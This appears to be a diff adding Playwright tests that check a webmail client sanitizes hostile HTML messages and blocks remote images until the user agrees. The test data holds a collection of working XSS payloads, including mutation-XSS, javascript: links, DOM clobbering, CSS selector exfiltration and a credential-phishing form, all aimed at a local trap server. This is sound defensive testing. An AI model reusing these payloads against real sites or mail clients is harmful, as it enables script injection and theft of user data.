@@ -1,0 +1,124 @@
+import assert from 'node:assert/strict';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { after, before, test } from 'node:test';
+import type { Browser, Page } from 'playwright-core';
+import { signedIn, startBrowser } from '../support/browser.ts';
+import { type LocalCloud, startLocalCloud } from '../support/local-cloud.ts';
+import { dropMail, htmlMail } from '../support/mail-drop.ts';
+
+let cloud: LocalCloud;
+let browser: Browser;
+let trap: Server;
+/** Paths that anything asked the trap for. */
+const caught: string[] = [];
+
+before(async () => {
+  trap = createServer((request, response) => {
+    caught.push(request.url ?? '');
+    response.setHeader('access-control-allow-origin', '*').end();
+  }).listen(0, '127.0.0.1');
+  cloud = await startLocalCloud();
+  browser = await startBrowser();
+});
+
+after(async () => {
+  await browser?.close();
+  await cloud?.remove();
+  trap?.close();
+});
+
+/** Ways to run something or to reach somebody, by name. `T` is the trap's address. */
+const ATTACKS: Record<string, string> = {
+  script: `<script>fetch('T/script');top.hacked=1</script><script src="T/script-src"></script>`,
+  handlers: `<img src=x onerror="top.hacked=1"><body onload="top.hacked=1"><p onmouseover="top.hacked=1" style="font-size:60px">hover</p>
+    <details open ontoggle="top.hacked=1"><summary>x</summary></details><input autofocus onfocus="top.hacked=1">`,
+  addresses: `<a href="javascript:top.hacked=1">one</a><a href=" jAvAsCrIpT&colon;top.hacked=1">two</a>
+    <a href="data:text/html,<script>top.hacked=1</script>">three</a><a href="/accounts">four</a>`,
+  frames: `<iframe src="T/frame"></iframe><iframe srcdoc="<script>top.hacked=1</script>"></iframe>
+    <object data="T/object"></object><embed src="T/embed"><frameset><frame src="T/frameset"></frameset>`,
+  head: `<meta http-equiv="refresh" content="0;url=T/refresh"><base href="T/base/"><img src="relative.png">
+    <link rel="stylesheet" href="T/sheet"><link rel="prefetch" href="T/prefetch"><link rel="dns-prefetch" href="//dns.example">`,
+  styles: `<style>@import url(T/import); @font-face{font-family:f;src:url(T/font)} *{font-family:f;background:url(T/background)}
+    p[class^=a]{background:url(T/exfiltrate)}</style><p class=abc style="background-image:url(T/inline);list-style:url(T/list)">x</p>`,
+  pictures: `<img src="T/pixel" srcset="T/set 2x"><picture><source srcset="T/source"><img src="T/picture"></picture>
+    <table background="T/table"><tr><td background="T/cell">x</td></tr></table><input type=image src="T/input">
+    <video poster="T/poster" src="T/video"></video><audio src="T/audio" autoplay></audio>`,
+  own: `<img src="/jmap/api"><img src="/config.json"><img src="//HOST/double-slash">`,
+  vectors: `<svg onload="top.hacked=1"><image href="T/svg"/><use href="T/use#x"/><script>top.hacked=1</script>
+    <foreignObject><iframe src="T/foreign"></iframe></foreignObject><animate attributeName=href values="javascript:top.hacked=1"/></svg>
+    <math href="javascript:top.hacked=1"><maction actiontype="statusline#T/math">x</maction></math>`,
+  mutation: `<noscript><p title="</noscript><img src=x onerror=top.hacked=1>"></noscript>
+    <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.hacked=1&gt;">
+    <svg></p><style><a id="</style><img src=1 onerror=top.hacked=1>"></svg>
+    <form><math><mtext></form><form><mglyph><style></math><img src onerror=top.hacked=1>
+    <template><img src=x onerror=top.hacked=1></template><xmp><img src="</xmp><img src=x onerror=top.hacked=1>"></xmp>`,
+  forms: `<form action="T/form"><input name=password type=password><button>Sign in</button></form>
+    <form id=f action="T/form2"></form><button form=f>Go</button><a ping="T/ping" href="https://example.org/">ping</a>`,
+  clobber: `<img name=body><img name=documentElement><form id=getElementById><input name=attributes></form><a id=mail name=mail>x</a>`,
+};
+
+async function open(page: Page, subject: string): Promise<void> {
+  await page.getByRole('link', { name: subject }).click();
+  await page.getByRole('article', { name: subject, exact: true }).locator('.mail-frame').waitFor();
+}
+
+test('a hostile message runs nothing, asks nobody, and leaves the app alone', async () => {
+  const address = `http://127.0.0.1:${(trap.address() as AddressInfo).port}`;
+  const mails = Object.entries(ATTACKS).map(([name, html]) =>
+    htmlMail(
+      `Attack by ${name}`,
+      `<html><body>${html.replaceAll('HOST', address.slice(7)).replaceAll(/\bT\//g, `${address}/`)}</body></html>`,
+    ),
+  );
+  await dropMail(cloud.demo(), mails);
+  const tall = { width: 1280, height: 2400 };
+  const { context, page } = await signedIn(browser, cloud.url, { viewport: tall });
+  const strangers: string[] = [];
+  context.on('request', request => {
+    const { origin } = new URL(request.url());
+    if (origin !== cloud.url && !/^(data|blob|about):/.test(request.url())) strangers.push(request.url());
+  });
+  for (const name of Object.keys(ATTACKS)) {
+    const subject = `Attack by ${name}`;
+    await open(page, subject);
+    const frame = page.frameLocator('.mail-frame');
+    await frame.locator('#mail').first().waitFor({ state: 'attached' });
+    const links = await frame
+      .locator('a[href]')
+      .evaluateAll(all => all.map(link => link.getAttribute('href') ?? ''));
+    for (const link of links) assert.match(link, /^(https?:|mailto:|tel:)/, `${name}: ${link}`);
+    await page.mouse.move(900, 300);
+    await page.waitForTimeout(150);
+    assert.equal(await page.evaluate(() => 'hacked' in window), false, `${name} ran a script`);
+    assert.equal(new URL(page.url()).origin, cloud.url, `${name} led away`);
+    assert.equal(await frame.locator('form, input, button, iframe, object, embed').count(), 0, name);
+  }
+  assert.deepEqual(caught, []);
+  assert.deepEqual(strangers, []);
+  assert.equal(context.pages().length, 1);
+  await context.close();
+});
+
+test('pictures on the internet are asked for only when the person says so', async () => {
+  const wanted: string[] = [];
+  await dropMail(cloud.demo(), [
+    htmlMail(
+      'Remote picture',
+      '<p>Look:</p><img alt="boat" width="40" height="40" src="https://pictures.example/boat.png">',
+    ),
+  ]);
+  const { context, page } = await signedIn(browser, cloud.url);
+  await context.route('https://pictures.example/**', route => {
+    wanted.push(route.request().url());
+    return route.fulfill({ contentType: 'image/png', body: '' });
+  });
+  await open(page, 'Remote picture');
+  await page.getByText('Images from the internet are not shown').waitFor();
+  assert.deepEqual(wanted, []);
+  await page.getByRole('button', { name: 'Show images' }).click();
+  await page.frameLocator('.mail-frame').locator('img[src^="https:"]').waitFor({ state: 'attached' });
+  await page.waitForTimeout(300);
+  assert.deepEqual(wanted, ['https://pictures.example/boat.png']);
+  await context.close();
+});
